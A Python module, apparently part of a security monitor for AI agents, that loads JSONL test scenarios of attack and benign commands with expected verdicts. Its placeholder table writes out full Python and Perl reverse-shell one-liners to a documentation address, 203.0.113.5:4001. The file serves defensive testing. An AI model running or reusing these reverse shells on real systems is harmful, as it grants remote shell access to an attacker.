"""Scenarios: read from files, their pseudo-commands made into what a shell runs.

A file holds one JSON object a line: `id`, `kind` (attack or benign), `family`, `command`,
`expected` (allow, alert, block, pause, kill), and if wanted `events` (Sigma-shaped, for judging
it offline), `seconds` (how long it may run), `note`. The corpus has the same format; what else
a line holds is ignored.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

OWN = Path(__file__).with_name("scenarios.jsonl")
CORPUS_VARIABLE = "AGENTWATCH_CORPUS_DIR"
VERDICTS = ("allow", "alert", "block", "pause", "kill")
KINDS = ("attack", "benign")
SECONDS = 10.0

# A remark for the reader behind a command: `python3 a.py   (paramiko)`. The blank before the
# bracket tells it from `$(...)` and `f()`.
_REMARK = re.compile(r"\s+\([^()]*\)\s*$")
# `...` stands for what everybody knows; `python3 -c` needs it written out.
_PLACEHOLDERS = (
    (
        re.compile(r"""(python3? -c ["'])\.\.\.;"""),
        r"\1import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',4001));"
        r"[os.dup2(s.fileno(),f) for f in (0,1,2)];",
    ),
    (
        re.compile(r"use Socket;\.\.\."),
        r'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        r'connect(S,sockaddr_in(4001,inet_aton("203.0.113.5")));open(STDOUT,">&S");open(STDERR,">&S");',
    ),
)
_DOUBLE_QUOTED = re.compile(r'((?:ba|da|z)?sh -c) "([^"\'\\]*)"')


class ScenarioError(ValueError):
    """A file of scenarios cannot be read; the message names file, line and reason."""


@dataclass(frozen=True)
class Scenario:
    """One thing an agent does, and what shall come of it."""

    id: str
    kind: str
    family: str
    command: str
    expected: str
    seconds: float = SECONDS
    note: str = ""
    events: tuple[Mapping[str, Any], ...] = ()

    @property
    def is_attack(self) -> bool:
        return self.kind == "attack"

    @property
    def script(self) -> str:
        """The command as a shell takes it: without remarks, placeholders written out."""
        text = _REMARK.sub("", self.command)
        for pattern, full in _PLACEHOLDERS:
            text = pattern.sub(full, text)
        inner = _DOUBLE_QUOTED.fullmatch(text)
        # What stands in the quotes is for the inner shell, `$name` in it too.
        return f"{inner[1]} '{inner[2]}'" if inner else text


def read(path: Path) -> list[Scenario]:
    """The scenarios of a file, in its order. Raises `ScenarioError`."""
    found: dict[str, Scenario] = {}
    for number, scenario in _parse_lines(path):
        if scenario.id in found:
            raise ScenarioError(f"{path}:{number}: {scenario.id} is there twice")
        found[scenario.id] = scenario
    return list(found.values())


def _parse_lines(path: Path) -> Iterator[tuple[int, Scenario]]:
    try:
        lines = path.read_text(encoding="utf-8").splitlines()
    except (OSError, UnicodeDecodeError) as error:
        raise ScenarioError(f"{path}: {error}") from None
    for number, line in enumerate(lines, 1):
        if line.strip():
            try:
                yield number, parse(json.loads(line))
            except (ValueError, KeyError, TypeError, AttributeError) as error:
                raise ScenarioError(f"{path}:{number}: {type(error).__name__}: {error}") from None


def parse(values: Mapping[str, Any]) -> Scenario:
    """One line's object. Raises KeyError, TypeError or ValueError for what is no scenario."""
    names = ("id", "kind", "family", "command", "expected")
    told = {name: values[name] for name in names}
    for name, value in told.items():
        if not isinstance(value, str):
            raise TypeError(f"{name} is no text")
    if told["kind"] not in KINDS or told["expected"] not in VERDICTS:
        raise ValueError(f"kind is one of {KINDS}, expected one of {VERDICTS}")
    return Scenario(
        **told,
        seconds=float(values.get("seconds", SECONDS)),
        note=str(values.get("note", "")),
        events=tuple(dict(event) for event in values.get("events", ())),
    )


def corpus() -> Path | None:
    """The corpus beside the repository, if there is one."""
    told = os.environ.get(CORPUS_VARIABLE)
    folder = Path(told) if told else Path(__file__).parents[3] / "shared" / "corpus"
    path = folder / "scenarios.jsonl"
    return path if path.is_file() else None
